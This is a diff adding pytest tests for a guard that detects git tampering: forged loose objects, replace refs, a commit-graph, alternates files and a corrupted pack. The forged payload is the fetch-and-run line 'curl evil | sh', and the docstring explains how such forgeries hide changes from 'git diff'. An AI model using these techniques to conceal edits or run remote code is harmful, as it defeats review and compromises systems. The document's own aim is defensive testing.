@@ -497,3 +497,82 @@ print(out)
                           str(p), str(alias), code, str(tmp_path / "q")],
                          capture_output=True, text=True, check=True, env={**os.environ})
     assert out.stdout.count("True") == 9 and "False" not in out.stdout, out
+
+
+def forge(obj: Path, content: bytes, kind: bytes = b"blob") -> None:
+    """Rewrite the loose object OBJ with CONTENT, under its own name."""
+    import zlib
+
+    obj.chmod(0o644)
+    obj.write_bytes(zlib.compress(kind + b" %d\0" % len(content) + content))
+
+
+@pytest.mark.parametrize("reload", [False, True], ids=["own-check", "dead-run-finished"])
+def test_history_the_workload_forged_is_removed_and_listed(repo, tmp_path_factory, reload):
+    """Git reads objects by name and never checks a loose object's content against it,
+    and takes replace refs and the commit-graph on trust. A workload that rewrote the
+    blob of a committed build script under its own name (and the file to match) hid its
+    change from the host's `git diff` and had `git checkout` write it; a replace ref and
+    a commit-graph do the same for whole objects and commits. What it forged in the
+    project's real objects and refs (bound into its view) goes, and is listed."""
+    (repo / "build.sh").write_text("make\n")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "one")
+    oid = git(repo, "rev-parse", "HEAD:build.sh").strip()
+    pom = git(repo, "rev-parse", "HEAD:pom.xml").strip()
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    view = simulate(repo, g.shadows(base), base)
+    obj = repo / ".git/objects" / oid[:2] / oid[2:]
+    forge(obj, b"curl evil | sh\n")
+    (repo / "build.sh").write_text("curl evil | sh\n")
+    assert git(repo, "diff", "--stat", git_dir=view) == ""  # hidden from review
+    evil = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="<evil/>\n", env={
+        **GIT_ENV, "GIT_DIR": str(view)}, check=True, capture_output=True, text=True).stdout.strip()
+    git(repo, "replace", pom, evil, git_dir=view)
+    (view / "objects/info").mkdir(exist_ok=True)
+    (view / "objects/info/commit-graph").write_bytes(b"CGPH" + b"\0" * 60)
+    (view / "objects/info/alternates").write_text(str(tmp_path_factory.mktemp("elsewhere")) + "\n")
+    good = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="fine\n", env={
+        **GIT_ENV, "GIT_DIR": str(view)}, check=True, capture_output=True, text=True).stdout.strip()
+    rec = dead(g, reload).check()
+    refused = {r["path"] for r in rec["refused"]}
+    assert {f".git/objects/{oid[:2]}/{oid[2:]}", f".git/refs/replace/{pom}", ".git/objects/info/commit-graph",
+            ".git/objects/info/alternates"} <= refused, rec
+    assert not obj.exists() and not (repo / ".git/refs/replace" / pom).exists()
+    assert not (repo / ".git/objects/info/alternates").exists()
+    assert git(repo, "cat-file", "-p", good) == "fine\n"  # the workload's own objects are kept
+    assert git(repo, "cat-file", "-p", pom) == "<project/>\n"
+    show = subprocess.run(["git", "show", "HEAD:build.sh"], cwd=repo, env=GIT_ENV, capture_output=True, text=True)
+    assert "evil" not in show.stdout, show
+
+
+def test_a_pack_the_workload_wrote_is_verified(repo, tmp_path_factory):
+    """The workload's own `git gc` keeps its packs (each verified); a pack it wrote that
+    is not what git writes goes, and is listed."""
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "one")
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s"
+    view = simulate(repo, g.shadows(base), base)
+    git(repo, "gc", "-q", git_dir=view)
+    rec = g.check()
+    assert [r for r in rec["refused"] if "/pack/pack-" in r["path"] and r["path"].endswith((".pack", ".idx"))] == []
+    assert git(repo, "fsck", "--no-dangling") == "" and git(repo, "log", "--format=%s") == "one\n"
+    g = guarded(repo)
+    base = tmp_path_factory.mktemp("runs") / "s2"
+    view = simulate(repo, g.shadows(base), base)
+    (repo / "more.txt").write_text("more\n")
+    git(repo, "add", "more.txt", git_dir=view)
+    git(repo, "commit", "-qm", "two", git_dir=view)
+    git(repo, "repack", "-q", git_dir=view)
+    packs = sorted((repo / ".git/objects/pack").glob("*.pack"), key=lambda p: p.stat().st_mtime_ns)
+    bad = packs[-1]
+    data = bytearray(bad.read_bytes())
+    data[20] ^= 0xFF
+    bad.chmod(0o644)
+    bad.write_bytes(bytes(data))
+    rec = g.check()
+    refused = {r["path"]: r["change"] for r in rec["refused"]}
+    assert f".git/objects/pack/{bad.name}" in refused and not bad.exists(), rec
+    assert all(p.exists() for p in packs[:-1])
